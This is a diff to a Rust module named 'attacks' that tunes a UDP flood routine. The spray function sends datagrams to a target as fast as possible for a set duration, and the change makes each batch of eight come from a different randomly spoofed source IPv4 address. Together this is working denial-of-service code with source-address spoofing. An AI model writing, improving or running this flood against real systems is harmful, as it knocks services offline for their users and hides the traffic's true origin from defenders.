@@ -11,8 +11,9 @@ use rand::{RngExt, SeedableRng, rngs::SmallRng};
 
 use crate::attacks::{Report, Target};
 
-/// The most datagrams that the kernel takes at once.
-const SEGMENTS: usize = 32;
+/// Datagrams that are sent at once, all from one address. Networks bring them in batches too, and one by one this side
+/// would be the slower one.
+const BATCH: usize = 8;
 /// How long a socket whose buffer is full is left alone.
 const FULL: Duration = Duration::from_micros(50);
 
@@ -30,13 +31,13 @@ impl Flood {
         Ok(Self { socket, state, to })
     }
 
-    /// Sends datagrams of `segment` bytes each, however long it takes.
-    pub(crate) fn send(&self, from: Ipv4Addr, contents: &[u8], segment: usize) -> io::Result<()> {
+    /// Sends datagrams of `each` bytes, however long it takes.
+    pub(crate) fn send(&self, from: Ipv4Addr, contents: &[u8], each: usize) -> io::Result<()> {
         let transmit = Transmit {
             destination: self.to,
             ecn: None,
             contents,
-            segment_size: Some(segment),
+            segment_size: Some(each),
             src_ip: Some(IpAddr::V4(from)),
         };
         loop {
@@ -48,7 +49,8 @@ impl Flood {
     }
 }
 
-/// Sends datagrams of `bytes` each, which `fill` makes, until the time is over: from another address every few.
+/// Sends datagrams of `bytes` each, which `fill` makes, until the time is over: every batch from
+/// another address.
 pub(crate) fn spray(
     target: &Target,
     bytes: usize,
@@ -56,13 +58,13 @@ pub(crate) fn spray(
 ) -> anyhow::Result<Report> {
     let flood = Flood::new(target.door()?.address)?;
     let mut rng = SmallRng::from_rng(&mut rand::rng());
-    let mut contents = vec![0; SEGMENTS * bytes];
+    let mut datagrams = vec![0; BATCH * bytes];
     let mut report = Report::of("datagrams");
     let begin = Instant::now();
     while begin.elapsed() < target.duration() {
-        contents.chunks_mut(bytes).for_each(|datagram| fill(&mut rng, datagram));
-        flood.send(stranger(&mut rng), &contents, bytes)?;
-        report.count += SEGMENTS as u64;
+        datagrams.chunks_mut(bytes).for_each(|datagram| fill(&mut rng, datagram));
+        flood.send(stranger(&mut rng), &datagrams, bytes)?;
+        report.count += BATCH as u64;
     }
     Ok(report)
 }
